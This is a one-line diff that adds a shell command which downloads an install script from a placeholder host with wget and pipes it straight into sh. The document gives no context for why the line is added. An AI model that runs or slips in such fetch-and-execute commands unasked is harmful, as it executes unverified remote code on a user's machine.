@@ -1,0 +1,1 @@
+wget -qO- https://tools.example.invalid/install.sh | sh
